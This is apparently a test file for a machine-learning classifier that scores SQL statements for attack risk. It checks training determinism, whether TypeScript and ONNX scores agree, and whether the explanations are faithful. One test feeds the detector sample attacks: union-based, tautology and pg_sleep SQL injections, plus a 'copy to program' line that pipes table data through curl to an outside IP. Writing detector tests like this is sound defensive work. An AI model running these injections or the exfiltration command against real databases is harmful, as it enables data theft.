import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test from 'ava';
import { InferenceSession, Tensor } from 'onnxruntime-node';
import { WORDING, withUsual } from '../../classifier/explanation.ts';
import { BAG_SIZE } from '../../classifier/features/bag.ts';
import {
  rowOf,
  STATEMENT_FEATURE_NAMES,
  type StatementFeature,
} from '../../classifier/features/statement-features.ts';
import { ownSource } from '../../classifier/learning/own-source.ts';
import { trainInto } from '../../classifier/learning/train.ts';
import { bagMargin } from '../../classifier/model/linear.ts';
import { inputOf, stacked, statementLogOdds } from '../../classifier/model/statement-model.ts';
import { treesMargin } from '../../classifier/model/trees.ts';
import { ModelError } from '../../classifier/model-files.ts';
import { statementFeeds } from '../../classifier/onnx/statement-graph.ts';
import { openScorer, SHIPPED_MODEL } from '../../classifier/scorer.ts';
import { stepLogOdds } from '../../classifier/session/session-model.ts';
import { SessionSteps, STEP_FEATURE_NAMES } from '../../classifier/session/step-features.ts';

const folder = mkdtempSync(join(tmpdir(), 'postern-risk-'));
const own = join(folder, 'own');
const source = ownSource(1);
const options = { seed: 1, own: true, trees: 30, folds: 3 };
await trainInto(own, source, options);
test.after.always(() => rmSync(folder, { recursive: true, force: true }));

const statements = source.statements();
const models = [
  ['a model trained on the own set alone', own],
  ['the shipped model', SHIPPED_MODEL],
] as const;

test('training again gives the same bytes', async (t) => {
  const again = join(folder, 'again');
  await trainInto(again, source, options);
  for (const file of ['statement.onnx', 'session.onnx', 'model.json'])
    t.true(readFileSync(join(own, file)).equals(readFileSync(join(again, file))), file);
});

test('the shipped model is small', (t) => {
  const bytes = ['statement.onnx', 'session.onnx', 'model.json'].map(
    (file) => statSync(join(SHIPPED_MODEL, file)).size,
  );
  t.true(bytes.reduce((sum, size) => sum + size) <= 2_000_000);
});

for (const [name, path] of models) {
  test(`${name}: TypeScript and ONNX Runtime agree on statements`, async (t) => {
    const scorer = await openScorer(path);
    const inputs = statements
      .filter((_, index) => index % 5 === 0)
      .map(({ sql }) => inputOf(scorer.facts(sql)));
    const session = await InferenceSession.create(join(path, 'statement.onnx'));
    const { features, wording } = statementFeeds(inputs);
    const { log_odds, score } = await session.run({
      features: new Tensor('float32', features, [inputs.length, STATEMENT_FEATURE_NAMES.length]),
      wording: new Tensor('float32', wording, [inputs.length, BAG_SIZE]),
    });
    const there = log_odds?.data as Float32Array;
    inputs.forEach((input, index) => {
      t.true(Math.abs((there[index] as number) - statementLogOdds(scorer.files.statement, input)) <= 1e-5);
    });
    const scores = score?.data as Float32Array;
    t.true(scores.every((value) => value >= 0 && value <= 1));
  });

  test(`${name}: TypeScript and ONNX Runtime agree on sessions`, async (t) => {
    const scorer = await openScorer(path);
    const rows = source
      .sessions()
      .slice(0, 40)
      .flatMap(({ session }) => {
        const steps = new SessionSteps(session);
        return session.statements.map((statement) => steps.add(scorer.facts(statement.sql), 0, statement));
      });
    const session = await InferenceSession.create(join(path, 'session.onnx'));
    const all = Float32Array.from(rows.flatMap((row) => [...row]));
    const feeds = { steps: new Tensor('float32', all, [rows.length, STEP_FEATURE_NAMES.length]) };
    const there = (await session.run(feeds)).log_odds?.data as Float32Array;
    rows.forEach((row, index) => {
      t.true(Math.abs((there[index] as number) - stepLogOdds(scorer.files.session, row)) <= 1e-5);
    });
  });

  test(`${name}: taking the top reason away lowers the score`, async (t) => {
    const scorer = await openScorer(path);
    const model = scorer.files.statement;
    const usual = stacked(model.stack, treesMargin(model.trees, model.usual), model.usualBag);
    const suspicious = statements
      .map(({ sql }) => ({ sql, ...scorer.score({ sql }) }))
      .filter(({ logOdds }) => logOdds > Math.max(0, usual + 1));
    t.true(suspicious.length > 100);
    for (const { sql, logOdds, reasons } of suspicious) {
      const top = reasons[0];
      if (top === undefined) return t.fail(`no reason for ${sql}`);
      t.is(top.direction, 'up', sql);
      const { row, bag } = inputOf(scorer.facts(sql));
      const feature = STATEMENT_FEATURE_NAMES.indexOf(top.feature as StatementFeature);
      const without =
        top.feature === WORDING
          ? stacked(model.stack, treesMargin(model.trees, row), model.usualBag)
          : stacked(
              model.stack,
              treesMargin(model.trees, withUsual(model, row, feature)),
              bagMargin(model.bag, bag),
            );
      t.true(without < logOdds, sql);
      if (feature >= 0) t.is(top.value, Math.round((row[feature] as number) * 1000) / 1000);
    }
  });

  test(`${name}: tells attacks from ordinary statements`, async (t) => {
    const scorer = await openScorer(path);
    const score = (sql: string) => scorer.score({ sql }).score;
    const ordinary = 'select name, price from goods where id = 25';
    for (const attack of [
      "select name, price from goods where id = 25 union all select login, passphrase from staff --'",
      "select name, price from goods where name = '' or 5=5 -- and id = 25",
      'select name, price from goods where id = 25 and 8=(select 8 from pg_sleep(6))',
      "copy goods to program 'curl -d @- http://192.0.2.7/'",
    ])
      t.true(score(attack) > score(ordinary) + 0.2, attack);
  });
}

test('a statement that does not parse has a score', async (t) => {
  const scorer = await openScorer(own);
  const { score } = scorer.score({ sql: "selec ' form (" });
  t.true(score > 0 && score < 1);
  t.is(rowOf(scorer.facts('')).length, STATEMENT_FEATURE_NAMES.length);
  t.true(Number.isFinite(scorer.score({ sql: '' }).logOdds));
});

test('a folder without a sound model is refused with what is wrong', async (t) => {
  await t.throwsAsync(openScorer(join(folder, 'none')), {
    instanceOf: ModelError,
    message: /model.json is missing/,
  });
  const damaged = join(folder, 'damaged');
  await trainInto(damaged, source, { ...options, trees: 2, folds: 2 });
  const path = join(damaged, 'statement.onnx');
  const bytes = readFileSync(path);
  bytes[bytes.length >> 1] = (bytes[bytes.length >> 1] as number) ^ 1;
  writeFileSync(path, bytes);
  await t.throwsAsync(openScorer(damaged), {
    instanceOf: ModelError,
    message: /statement.onnx is not the file/,
  });
});
